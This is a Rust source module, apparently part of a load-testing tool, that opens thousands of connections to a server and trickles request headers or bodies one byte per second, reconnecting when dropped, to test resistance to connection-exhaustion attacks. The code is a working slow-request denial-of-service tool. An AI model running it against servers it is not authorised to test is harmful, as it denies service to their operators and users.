//! Many clients that send their requests one byte at a time, as attackers do to use up connections.
//! Half of them send the head slowly, half the body. A client that is disconnected connects again.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::Context as _;
use clap::Args;

/// Between two bytes of a connection.
const PAUSE: Duration = Duration::from_secs(1);

const SLOW_HEAD: &[u8] = b"GET /qa/questions?product_id=1 HTTP/1.1\r\nHost: shop.example\r\nX-Padding: ";
const SLOW_BODY: &[u8] = b"POST /qa/questions HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n";

#[derive(Debug, Args)]
pub(crate) struct Options {
    /// The server.
    server: SocketAddr,
    /// How many at once.
    #[arg(long, default_value_t = 10_000)]
    connections: usize,
    /// For how long.
    #[arg(long, default_value_t = 60)]
    seconds: u64,
}

/// One of them.
struct Slow {
    stream: TcpStream,
    /// What is sent a byte at a time before padding.
    start: &'static [u8],
    sent: usize,
}

impl Slow {
    fn connect(server: SocketAddr, number: usize) -> std::io::Result<Self> {
        let mut stream = TcpStream::connect(server)?;
        // The head of a slow body is sent at once.
        let start =
            if number.is_multiple_of(2) { SLOW_HEAD } else { stream.write_all(SLOW_BODY).map(|()| b"")? };
        stream.set_nonblocking(true)?;
        Ok(Self { stream, start, sent: 0 })
    }

    /// Sends the next byte; whether the server still listens.
    fn go_on(&mut self) -> bool {
        let byte = self.start.get(self.sent).copied().unwrap_or(b' ');
        self.sent += 1;
        let wrote = self.stream.write(&[byte]).is_ok();
        let closed = match self.stream.read(&mut [0; 512]) {
            Ok(length) => length == 0,
            Err(error) => error.kind() != ErrorKind::WouldBlock,
        };
        wrote && !closed
    }
}

pub(crate) fn run(options: &Options) -> anyhow::Result<()> {
    let started = Instant::now();
    let connect = |number| Slow::connect(options.server, number);
    let mut slow: Vec<Option<Slow>> = (0..options.connections)
        .map(|number| connect(number).map(Some).with_context(|| format!("connection {number}")))
        .collect::<anyhow::Result<_>>()?;
    println!("{} slow connections after {:.1} s", slow.len(), started.elapsed().as_secs_f64());
    let (mut cut, mut refused) = (0u64, 0u64);
    while started.elapsed() < Duration::from_secs(options.seconds) {
        let round = Instant::now();
        for (number, place) in slow.iter_mut().enumerate() {
            if place.as_mut().is_some_and(|slow| !slow.go_on()) {
                cut += 1;
                *place = None;
            }
            if place.is_none() {
                *place = connect(number).ok();
                refused += u64::from(place.is_none());
            }
        }
        std::thread::sleep(PAUSE.saturating_sub(round.elapsed()));
    }
    println!("{cut} of them were cut off and came again, {refused} times in vain");
    Ok(())
}
